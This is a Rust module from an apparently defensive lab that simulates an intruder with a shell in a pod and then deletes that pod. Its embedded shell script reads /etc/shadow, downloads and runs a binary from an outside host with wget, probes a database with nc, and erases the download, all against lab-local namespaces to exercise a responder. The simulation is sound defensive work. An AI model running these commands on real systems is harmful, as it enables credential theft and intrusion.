//! What the responder's story in the demo is about: somebody gets a shell in a pod, and the pod goes.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};

use super::member;
use super::plan::{self, DB, DB_PORT, FOLDER, FRONTEND, OUTSIDER, OUTSIDER_PORT};
use super::{Files, JOURNAL};
use crate::journal::Made;
use crate::process::{self, Step, wait_until};
use crate::{cgroups, packages, setup};

/// The pod that is attacked.
pub(crate) const VICTIM: plan::Member = FRONTEND;
/// Where the attacker keeps what it fetched.
pub(crate) const DROP_FOLDER: &str = "/tmp/.wf-lab";
/// How often it tries the database, which the pod may not reach.
pub(crate) const ATTEMPTS: usize = 3;

const ATTACK_LIMIT: Duration = Duration::from_secs(20);
const DELETE_LIMIT: Duration = Duration::from_secs(10);

/// What is typed into the shell: a download, runs from /tmp that talk to the database, and the traces removed.
const TYPED: &str = r#"set -e
"$BUSYBOX" cat /etc/shadow > /dev/null
"$BUSYBOX" wget -q -O "$DROP/busybox" "http://$OUTSIDER/busybox"
"$BUSYBOX" chmod 755 "$DROP/busybox"
for attempt in $ATTEMPTS; do
    echo QUIT | "$DROP/busybox" nc -w 3 "$DB_ADDRESS" "$DB_PORT" > /dev/null
done
"$BUSYBOX" rm "$DROP/busybox"
"#;

/// Attacks the pod; nothing of it is left on the disk.
pub(crate) fn attack() -> Result<()> {
    let _step = Step::new("lab: somebody gets a shell in shop/frontend");
    let busybox = member::program("busybox");
    let drop = Path::new(DROP_FOLDER);
    ensure!(!drop.exists(), "{DROP_FOLDER} exists that this lab has not made; remove it");
    JOURNAL.note(&Made::Folder(drop.to_owned()))?;
    fs::create_dir(drop).with_context(|| format!("create {DROP_FOLDER}"))?;
    let served = Path::new(FOLDER).join("www/busybox");
    fs::copy(&busybox, &served).with_context(|| format!("copy to {}", served.display()))?;
    let attacked = run(&busybox);
    // A script that failed may have left what it fetched.
    let removed = fs::remove_dir_all(drop).with_context(|| format!("remove {DROP_FOLDER}"));
    attacked.and(removed)
}

fn run(busybox: &Path) -> Result<()> {
    let attempts: Vec<String> = (1..=ATTEMPTS).map(|attempt| attempt.to_string()).collect();
    let typed = Path::new(FOLDER).join("typed");
    fs::write(&typed, TYPED).with_context(|| format!("write {}", typed.display()))?;
    let mut command = member::command(VICTIM, busybox, &["sh"])?;
    command
        .stdin(fs::File::open(&typed)?)
        .env("BUSYBOX", busybox)
        .env("DROP", DROP_FOLDER)
        .env("OUTSIDER", format!("{}:{OUTSIDER_PORT}", OUTSIDER.address()))
        .env("DB_ADDRESS", DB.address())
        .env("DB_PORT", DB_PORT.to_string())
        .env("ATTEMPTS", attempts.join(" "))
        .stdout(Stdio::null());
    let mut child = command.spawn().context("start the attack")?;
    let Some(status) = wait_until(ATTACK_LIMIT, || child.try_wait().ok().flatten()) else {
        child.kill().context("stop the attack")?;
        child.wait()?;
        anyhow::bail!("the attack did not end");
    };
    ensure!(status.success(), "the attack ended with {status}");
    Ok(())
}

/// Removes the pod that was attacked, as a node does: its processes have ended, its cgroup and its network go, and the
/// inventory knows it no more.
pub(crate) fn delete_victim(files: &Files) -> Result<()> {
    let _step = Step::new("lab: shop/frontend is deleted");
    let container = cgroups::v2_root()?.join(VICTIM.cgroup());
    let pod = container.parent().context("a container is in a pod")?;
    for folder in [container.as_path(), pod] {
        let gone = || (!folder.exists() || fs::remove_dir(folder).is_ok()).then_some(());
        wait_until(DELETE_LIMIT, gone).with_context(|| format!("{} is still in use", folder.display()))?;
    }
    let ip = setup::tool(&packages::IP)?;
    process::run_quietly(Command::new(ip).args(["netns", "delete", &VICTIM.namespace()]))?;
    let others = plan::inventory(|member| member != VICTIM);
    // By one rename: the agent may look at any time.
    let new = files.inventory.with_extension("new");
    fs::write(&new, others)
        .and_then(|()| fs::rename(&new, &files.inventory))
        .with_context(|| format!("write {}", files.inventory.display()))
}
